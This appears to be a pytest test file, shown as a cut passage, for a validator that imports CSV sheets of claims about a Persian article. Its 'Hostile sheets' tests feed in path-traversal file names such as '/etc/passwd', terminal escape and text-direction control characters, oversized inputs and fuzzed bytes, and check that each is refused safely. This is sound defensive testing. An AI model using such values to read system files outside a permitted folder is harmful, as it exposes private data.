    ({"article_language": "persian!"}, "bad-value", "article_language"),
    ({"gloss_en": "x" * 20_001}, "bad-value", "gloss_en"),
    ({"gloss_en": "a\x00b"}, "control-character", "gloss_en"),
    ({"part": "presuppose"}, "unknown-word", "part"),
    ({"part": "quote"}, "bad-row", "source"),
    ({"part": "presupposes"}, "unknown-claim", "claim"),
]


@pytest.mark.parametrize(("changed", "id", "column"), WRONG, ids=str)
def test_every_mistake_is_refused_with_row_and_column(changed: dict[str, str], id: str, column: str) -> None:
    first = {**FIRST, "claim": "c0"} if changed.get("part") == "quote" else None
    rows = [{**FIRST, **changed}]
    if first is not None:
        rows = [{**rows[0], "claim": "c0"}, first]
    found = problems(lines(*rows))
    assert (id, f"sheet.csv:row 2, column '{column}'") in {(p.id, str(p.location)) for p in found}
    if id in ("bad-date", "bad-number", "unknown-word", "changed-cell"):
        assert changed == {"time": "2020-13-01"} or all(problem.advice for problem in found)


def test_the_nearest_word_is_named() -> None:
    [problem] = problems(lines({**FIRST, "stance": "assert"}))
    assert problem.advice == "did you mean 'asserts'?" and problem.claim == "c1"
    [problem] = problems(lines(FIRST).replace("occurrence", "occurence"))
    assert (problem.id, problem.advice) == ("unknown-column", "did you mean 'occurrence'?")
    assert str(problem.location) == "sheet.csv:row 1, column 'occurence'"


def test_a_damaged_date_is_explained() -> None:
    [problem] = problems(lines({**FIRST, "time": "10/4/2020"}))
    assert str(problem) == (
        "sheet.csv:row 2, column 'time': bad-date: not a date: '10/4/2020'; write 2020-10-04, 2020-10, 2020 "
        "or 2020-10-04/2020-10-05 (claim c1)\n    a spreadsheet may have changed it: make the column text, "
        "or begin the cell with an apostrophe, and write year-month-day"
    )


def test_what_a_spreadsheet_would_change_is_guarded() -> None:
    [claim] = read({**FIRST, "claim": "10-4", "time": "2020-10-04/2020-10-05"}).file.claims
    cells = spreadsheet(write_sheet(Register(), ClaimsFile(article=read(FIRST).file.article, claims=[claim])))
    row = dict(zip(cells[0], cells[-1], strict=True))
    assert (row["claim"], row["time"]) == ("'10-4", "'2020-10-04/2020-10-05")
    assert read({**FIRST, "min": "'41", "measure": "killed", "time": "'2020"}).file.claims[0].says is not None


def test_further_rows_that_do_not_fit() -> None:
    further = [
        ({"claim": "c2", "part": "quote", "quote": "x"}, "unknown-claim", "claim"),
        ({"claim": "c1", "part": "quote"}, "missing-key", "quote"),
        ({"claim": "c1", "part": "quote", "occurrence": "1"}, "missing-key", "quote"),
        ({"claim": "c1", "part": "quote", "quote": "x", "kind": "war"}, "bad-row", "kind"),
        ({"claim": "c1", "part": "presupposes", "kind": "war", "quote": "x"}, "bad-row", "quote"),
        ({"claim": "c1", "part": "presupposes"}, "missing-key", "kind"),
        ({"article": "b"}, "duplicate-key", "article"),
    ]
    for row, id, column in further:
        found = problems(lines(FIRST, row))
        assert [(p.id, str(p.location)) for p in found] == [(id, f"sheet.csv:row 3, column '{column}'")]
    condition = {"claim": "c1", "part": "condition", "kind": "war"}
    [problem] = problems(lines({**FIRST, "stance": "demands"}, condition, condition))
    assert (problem.id, str(problem.location)) == ("duplicate-key", "sheet.csv:row 4, column 'part'")
    assert "row 3" in problem.message


def test_names_and_quotes_are_looked_up_with_row_and_column(tmp_path: Path) -> None:
    knowledge, bundle = known(CLAIMS_FILES[0])
    folder = CLAIMS_FILES[0].parent
    data = write_template(knowledge, bundle, text="article.fa.txt")

    def found(change: Callable[[str], str], where: Path = folder) -> set[tuple[str, str]]:
        sheet = read_sheet(change(data.decode("utf-8-sig")).encode("utf-8"), "sheet.csv")
        with pytest.raises(InputError) as caught:
            build_sheet_bundle(sheet, where, knowledge.register)
        return {(problem.id, str(problem.location)) for problem in caught.value.problems}

    assert found(lambda text: text.replace("\r\na1,,aliyev", "\r\na1,,aliyew")) == {
        ("unknown-name", "sheet.csv:row 6, column 'source'")
    }
    assert found(lambda text: text.replace("withdrawal,armenia", "withdrawal,ganja", 1)) == {
        ("wrong-section", "sheet.csv:row 6, column 'agent'")
    }
    assert found(lambda text: text.replace("خروج ارمنستان از قرهباغ و", "ورود ارمنستان به قرهباغ و", 1)) == {
        ("quote-not-found", "sheet.csv:row 6, column 'quote'")
    }
    assert found(lambda text: text.replace("presence,armenia", "presense,armenia", 1)) == {
        ("unknown-name", "sheet.csv:row 7, column 'kind'")
    }
    assert found(lambda text: text.replace("\r\na1b,", "\r\na1,")) == {
        ("duplicate-claim", "sheet.csv:row 8, column 'claim'")
    }
    assert found(lambda text: text.replace("a4d74d2f", "b4d74d2f")) == {
        ("text-changed", "sheet.csv:row 6, column 'article_sha256'")
    }
    assert found(str, tmp_path) == {("no-such-file", "sheet.csv:row 6, column 'article_text'")}
    for name in ("../article.fa.txt", "/etc/passwd"):
        assert found(lambda text, name=name: text.replace("article.fa.txt,a4", f"{name},a4")) == {  # type: ignore[misc]
            ("outside-bundle", "sheet.csv:row 6, column 'article_text'")
        }


# Hostile sheets ---------------------------------------------------------------------------------------------


def only(data: bytes | str) -> tuple[str, str]:
    [problem] = problems(data)
    return problem.id, str(problem.location)


def test_sheets_that_are_none() -> None:
    assert only("") == ("nothing-found", "sheet.csv:row 1, column 'A'")
    assert only("\r\n# x\r\n") == ("nothing-found", "sheet.csv:row 1, column 'A'")
    assert only(lines(FIRST) + 'c2,"north') == ("bad-csv", "sheet.csv:row 3, column 'part'")
    assert only(lines(FIRST) + 'c2,"north"x') == ("bad-csv", "sheet.csv:row 3, column 'part'")
    assert {problem.id for problem in problems("PK\x03\x04" + "x" * 50)} == {
        "unknown-column",
        "missing-column",
    }
    assert {problem.id for problem in problems('{"a": 1}')} >= {"missing-column"}


def test_sheets_that_are_not_unicode() -> None:
    data = lines(FIRST).encode("utf-8").replace(b"we fired", b"\xc7\xe1")
    assert only(data) == ("not-utf8", "sheet.csv:row 2, column 'E'")
    assert only(b"\xff\xfe" + lines(FIRST).encode("utf-16-le") + b"\x00\xd8x") == (
        "not-utf8",
        "sheet.csv:row 3, column 'A'",
    )
    with pytest.raises(UnicodeDecodeError):
        decode_csv(b"\xff")


def test_columns_that_do_not_fit() -> None:
    assert only(lines(FIRST, head=[*HEAD, "claim"])) == (
        "duplicate-column",
        "sheet.csv:row 1, column 'claim'",
    )
    twice = [*HEAD, "gloss_FA", "Gloss fa"]
    assert only(lines(FIRST, head=twice)) == ("duplicate-column", "sheet.csv:row 1, column 'gloss_fa'")
    assert only(lines(FIRST, head=[*HEAD, "gloss_persian!"]))[0] == "unknown-column"
    assert only(lines(FIRST, head=[name for name in HEAD if name != "stance"])) == (
        "missing-column",
        "sheet.csv:row 1, column 'stance'",
    )
    assert only(lines({**FIRST, "": "x"}, head=[*HEAD, ""])) == ("bad-row", "sheet.csv:row 2, column 'S'")
    text = lines(FIRST).replace("\r\n", ",,,\r\n").rstrip() + "more\r\n"
    assert only(text) == ("bad-row", "sheet.csv:row 2, column 'U'")
    assert [claim.gloss for claim in read_sheet(
        lines({**FIRST, "Gloss zh-Hant": "開火"}, head=[*HEAD, "Gloss zh-Hant"]).encode(), "s"
    ).file.claims] == [{"zh-hant": "開火"}]  # fmt: skip


@pytest.mark.slow
def test_too_much_of_anything_is_refused() -> None:
    wide = ",".join(f"c{n}" for n in range(10**6))
    assert only(wide) == ("too-large", "sheet.csv:row 1, column 'ALM'")
    assert MAX_COLUMNS == 1000
    assert only(lines(FIRST) + "," * 10**6)[0] == "too-large"
    assert only(lines(FIRST) + f"{',' * 999}\n" * 2100)[0] == "too-large"
    assert only("x" * (16 * 1024 * 1024 + 1))[0] == "too-large"
    found = problems(lines(*[{**FIRST, "claim": f"c{n}", "time": "4.10.20"} for n in range(5000)]))
    assert len(found) == 101 and found[-1].id == "more-problems" and "4,900" in found[-1].message
    found = problems(lines(*[{**FIRST, "claim": f"c{n}", "stance": "x"} for n in range(300)]))
    assert len(found) == 101 and found[-1].id == "more-problems"
    assert only('"' + "x" * 10**6)[0] == "bad-csv"


def test_what_a_stranger_wrote_is_shown_harmless() -> None:
    found = problems(lines(FIRST, head=[*HEAD, "\x1b[2J\u202ecolumn"]))
    assert "\x1b" not in str(found[0]) and "\u202e" not in str(found[0])
    found = problems(lines({**FIRST, "source": "\u202enorth"}))
    assert all("\u202e" not in str(problem) for problem in found)


TEMPLATE = write_template(*known(CLAIMS_FILES[0]), text="article.fa.txt")
PIECES = [
    '"',
    ",",
    ";",
    "\t",
    "\r\n",
    "\n",
    "#",
    "'",
    "=",
    "claim",
    "part",
    "quote",
    "2020-10-04",
    "\x00",
    "\ufeff",
]
PIECES += [
    "presupposes",
    "condition",
    "-1",
    "1e9",
    "asserts",
    "gloss_",
    "\u202e",
    "\ud7ff",
    "sep=;\n",
    "🜁",
    "/",
]


@settings(
    max_examples=drawn(125), suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow]
)
@given(st.integers(0, 2**32), st.integers(0, 5), st.sampled_from(["utf-8", "utf-16", "bytes"]))
def test_mutated_sheets_never_end_in_a_traceback(tmp_path: Path, seed: int, times: int, how: str) -> None:
    noise = random.Random(seed)
    rows = TEMPLATE.decode("utf-8-sig").split("\r\n")
    text = "\r\n".join([rows[0], *rows[5:13]])
    for _ in range(times):
        at = noise.randrange(len(text))
        length = noise.choice([0, 0, 1, 1, 3, 40])
        text = text[:at] + noise.choice(PIECES) * noise.choice([1, 1, 2]) + text[at + length :]
    data = text.encode("utf-16" if how == "utf-16" else "utf-8")
    if how == "bytes":
        changed = bytearray(data)
        for _ in range(times):
            changed[noise.randrange(len(changed))] = noise.randrange(256)
        data = bytes(changed)
    knowledge = known(CLAIMS_FILES[0])[0]
    try:
        sheet = read_sheet(data, "sheet.csv")
        assert read_sheet(write_sheet(knowledge.register, sheet.file), "again.csv").file == sheet.file
        build_sheet_bundle(sheet, CLAIMS_FILES[0].parent, knowledge.register)
    except InputError as error:
        assert error.problems
        for problem in error.problems:
            assert problem.id and problem.message and problem.location is not None
            if problem.id != "more-problems":
                assert problem.location.line is not None and problem.location.column


@settings(max_examples=drawn(150))
@given(
    st.binary(max_size=200) | st.text(max_size=200).map(lambda text: (",".join(HEAD) + "\n" + text).encode())
)
def test_any_bytes_are_read_or_refused(data: bytes) -> None:
    try:
        read_sheet(data, "sheet.csv")
    except InputError as error:
        assert error.problems and all(problem.location is not None for problem in error.problems)
